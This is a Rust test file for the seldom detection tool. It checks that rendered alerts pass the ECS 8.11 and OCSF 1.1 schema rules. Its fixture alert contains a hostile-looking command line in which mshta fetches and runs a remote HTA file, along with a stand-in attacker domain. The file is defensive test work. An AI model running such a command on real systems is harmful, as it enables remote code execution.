//! Every alert seldom renders passes ECS's and OCSF's own rules, checked
//! against the published schema files: for every variation of the built-in
//! catalog, at every severity, on every platform, with everything known and
//! with as little as a network sensor knows.

#![allow(clippy::unwrap_used, clippy::expect_used)] // tests fail loudly on broken fixtures

mod standards;

use std::sync::Arc;

use seldom_detect::Alert;
use seldom_detect::alert::{AlertDestination, AlertProcess, PrevalenceEvidence};
use seldom_detect::catalog::{Catalog, Severity, Variation};
use seldom_detect::destination::DestinationKey;
use seldom_detect::formats::{ecs, ocsf};
use seldom_detect::process_table::Ancestor;
use seldom_model::{Location, Platform, Timestamp};
use serde_json::Value;

use standards::{ecs::Ecs, ocsf::Ocsf, standards_dir};

const DETECTION_FINDING: &str = "events/findings/detection_finding.json";
/// Namespaces outside ECS: Elastic Security's alert schema and seldom's own.
const ECS_CUSTOM: [&str; 2] = ["kibana.alert", "seldom"];

fn t(seconds: i64) -> Timestamp {
    Timestamp::from_micros(1_704_067_200_000_000 + seconds * 1_000_000)
}

fn ancestor(image: &str, pid: Option<u32>, guid: Option<&str>) -> Ancestor {
    Ancestor {
        image: Some(image.into()),
        command_line: Some(format!("{image} /c x").into()),
        original_file_name: None,
        pid,
        guid: guid.map(Into::into),
    }
}

/// An alert with everything a Sysmon host gives.
fn full_alert(variation: &Variation, severity: Severity, platform: Platform) -> Alert {
    Alert {
        id: "a1b2c3".into(),
        variation: variation.id.clone(),
        name: variation.name.clone(),
        severity,
        attack: variation.attack.clone(),
        first_seen: t(3),
        last_seen: t(90),
        count: 2,
        host: "ws1".into(),
        platform,
        user: Some("CORP\\alice".into()),
        process: AlertProcess {
            image: Some("C:\\Windows\\System32\\mshta.exe".into()),
            command_line: Some("mshta.exe http://45.1.2.3/x.hta".into()),
            pid: Some(11),
            guid: Some("{11}".into()),
            original_file_name: Some("MSHTA.EXE".into()),
            start: Some(t(1)),
        },
        chain: vec![
            ancestor("C:\\Windows\\System32\\cmd.exe", Some(10), Some("{10}")),
            // A parent known only from its child's start event: no pid, no guid.
            ancestor("C:\\Program Files\\Office\\WINWORD.EXE", None, None),
        ],
        destination: AlertDestination {
            ip: "45.1.2.3".parse().unwrap(),
            port: Some(443),
            protocol: Some("tcp".into()),
            hostname: Some("a45-1-2-3.example.net".into()),
            forward_name: Some("cdn.evil.example".into()),
            registered_domain: Some("evil.example".into()),
            key: DestinationKey::Domain("evil.example".into()),
        },
        prevalence: PrevalenceEvidence {
            hosts_in_window: 0,
            active_hosts: 12,
            window_days: 30,
            rare_threshold: 3,
            first_seen_in_org: t(3),
        },
        matched_because: "because".into(),
        also_matched: vec!["rare-external-host".into()],
        explanation: "mshta on ws1 connected to cdn.evil.example".into(),
        description: variation.description.clone(),
        attacker_goals: variation.attacker_goals.clone(),
        investigative_actions: variation.investigative_actions.clone(),
        source_events: vec![Location::file(Arc::from("ws1.evtx"))],
        incident: Some(seldom_detect::IncidentRef {
            id: "00000000000000ab".to_owned(),
            hosts: vec!["ws1".to_owned(), "ws2".to_owned()],
        }),
        beacon: Some(seldom_detect::beacon::Beacon {
            contacts: 12,
            median_interval_seconds: 300.0,
            dispersion: 0.05,
            first: Timestamp::from_micros(1_700_000_000_000_000),
            last: Timestamp::from_micros(1_700_003_300_000_000),
            base_severity: Severity::Informational,
            contact_times: vec![
                Timestamp::from_micros(1_700_000_000_000_000),
                Timestamp::from_micros(1_700_000_300_000_000),
            ],
            bytes_median: Some(512.0),
            bytes_dispersion: Some(0.01),
        }),
        digest: None,
    }
}

/// As little as is ever known: a network sensor's connection.
fn sparse_alert(variation: &Variation, severity: Severity, platform: Platform) -> Alert {
    let mut alert = full_alert(variation, severity, platform);
    alert.user = None;
    alert.process = AlertProcess {
        image: None,
        command_line: None,
        pid: None,
        guid: None,
        original_file_name: None,
        start: None,
    };
    alert.chain = Vec::new();
    alert.destination.port = None;
    alert.destination.protocol = None;
    alert.destination.hostname = None;
    alert.destination.forward_name = None;
    alert.destination.registered_domain = None;
    alert.destination.key = DestinationKey::Ip(alert.destination.ip);
    alert
}

/// Every rendering to check: each variation at each severity (its own and
/// the others), each platform, full and sparse.
fn alerts() -> Vec<Alert> {
    let catalog = Catalog::builtin().unwrap();
    let mut out = Vec::new();
    for variation in catalog.variations() {
        for severity in [
            Severity::Informational,
            Severity::Low,
            Severity::Medium,
            Severity::High,
        ] {
            for platform in [
                Platform::Windows,
                Platform::Linux,
                Platform::Macos,
                Platform::Network,
            ] {
                out.push(full_alert(variation, severity, platform));
                out.push(sparse_alert(variation, severity, platform));
            }
        }
    }
    out
}

fn describe(alert: &Alert) -> String {
    format!(
        "{} {:?} {:?} (pid {:?})",
        alert.variation, alert.severity, alert.platform, alert.process.pid
    )
}

#[test]
fn every_ecs_alert_passes_ecs_8_11() {
    let Some(dir) = standards_dir() else { return };
    let schema = Ecs::load(&dir);
    for alert in alerts() {
        let doc = ecs::render(&alert);
        let errors = schema.validate(&doc, &ECS_CUSTOM);
        assert!(
            errors.is_empty(),
            "{}: {errors:#?}\n{doc:#}",
            describe(&alert)
        );
        // ECS reserves `signal` for Kibana's own detection engine.
        assert_eq!(doc["event"]["kind"], "alert");
    }
}

#[test]
fn every_ocsf_alert_passes_ocsf_1_1_detection_finding() {
    let Some(dir) = standards_dir() else { return };
    let schema = Ocsf::load(&dir);
    for alert in alerts() {
        let doc = ocsf::render(&alert);
        let errors = schema.validate(DETECTION_FINDING, &doc);
        assert!(
            errors.is_empty(),
            "{}: {errors:#?}\n{doc:#}",
            describe(&alert)
        );
    }
}

#[test]
fn ocsf_alerts_carry_the_recommended_attributes_seldom_knows() {
    let catalog = Catalog::builtin().unwrap();
    let variation = &catalog.variations()[0];
    let doc = ocsf::render(&full_alert(variation, Severity::High, Platform::Windows));
    for pointer in [
        "/timezone_offset",
        "/confidence_id",
        "/metadata/log_provider",
        "/evidences/0/process/name",
        "/evidences/0/process/created_time",
        "/evidences/0/dst_endpoint/type_id",
        "/evidences/0/connection_info/protocol_num",
    ] {
        assert!(doc.pointer(pointer).is_some(), "{pointer} missing: {doc:#}");
    }
    assert_eq!(doc["metadata"]["profiles"], serde_json::json!(["host"]));
    assert_eq!(doc["evidences"][0]["connection_info"]["protocol_num"], 6);
    // The chain nests while OCSF can name each process (pid or uid); the
    // whole chain stays in unmapped.
    let parent = &doc["evidences"][0]["process"]["parent_process"];
    assert_eq!(parent["pid"], 10);
    assert!(parent.get("parent_process").is_none());
    assert_eq!(
        doc["unmapped"]["seldom"]["chain"].as_array().unwrap().len(),
        2
    );
}

#[test]
fn what_seldom_does_not_know_is_left_out_not_null() {
    let catalog = Catalog::builtin().unwrap();
    let variation = &catalog.variations()[1];
    let alert = sparse_alert(variation, Severity::Informational, Platform::Network);
    let ocsf_doc = ocsf::render(&alert);
    let evidence = &ocsf_doc["evidences"][0];
    assert!(evidence.get("process").is_none() && evidence.get("actor").is_none());
    assert!(evidence["dst_endpoint"]["ip"].is_string());
    let ecs_doc = ecs::render(&alert);
    assert!(ecs_doc.get("user").is_none());
    assert!(
        ecs_doc["host"].get("os").is_none(),
        "network is no ECS os.type"
    );
    let mut nulls = Vec::new();
    standards::nulls(&ecs_doc, "", &mut nulls);
    standards::nulls(&ocsf_doc, "", &mut nulls);
    assert!(nulls.is_empty(), "{nulls:?}");
}

/// The validators are not vacuous: the shapes issue 17 fixed are refused.
#[test]
fn the_validators_refuse_what_the_schemas_forbid() {
    let Some(dir) = standards_dir() else { return };
    let catalog = Catalog::builtin().unwrap();
    let alert = full_alert(&catalog.variations()[2], Severity::High, Platform::Windows);

    let ecs_schema = Ecs::load(&dir);
    let mut doc = ecs::render(&alert);
    doc["host"]["os"]["type"] = Value::from("network");
    doc["process"]["parent"]["pid"] = Value::Null;
    doc["event"]["category"] = Value::from("network");
    doc["destination"]["colour"] = Value::from("red");
    let errors = ecs_schema.validate(&doc, &ECS_CUSTOM).join("\n");
    for expected in [
        "host.os.type: `network` is not an expected value",
        "process.parent.pid: explicit null",
        "event.category: ECS normalizes it to an array",
        "destination.colour: not an ECS field",
    ] {
        assert!(errors.contains(expected), "{expected}\n{errors}");
    }

    let ocsf_schema = Ocsf::load(&dir);
    let mut doc = ocsf::render(&alert);
    doc["metadata"].as_object_mut().unwrap().remove("profiles");
    doc["evidences"][0]["actor"]["user"] = serde_json::json!({});
    doc["severity_id"] = Value::from(9);
    doc["evidences"][0]["connection_info"]["direction"] = Value::from("Inbound");
    let errors = ocsf_schema.validate(DETECTION_FINDING, &doc).join("\n");
    for expected in [
        "device: belongs to profile `host`",
        "evidences[0].actor.user: needs at least one of",
        "severity_id: 9 is not in the enum",
        "evidences[0].connection_info.direction: `Inbound` is not the caption",
    ] {
        assert!(errors.contains(expected), "{expected}\n{errors}");
    }
}
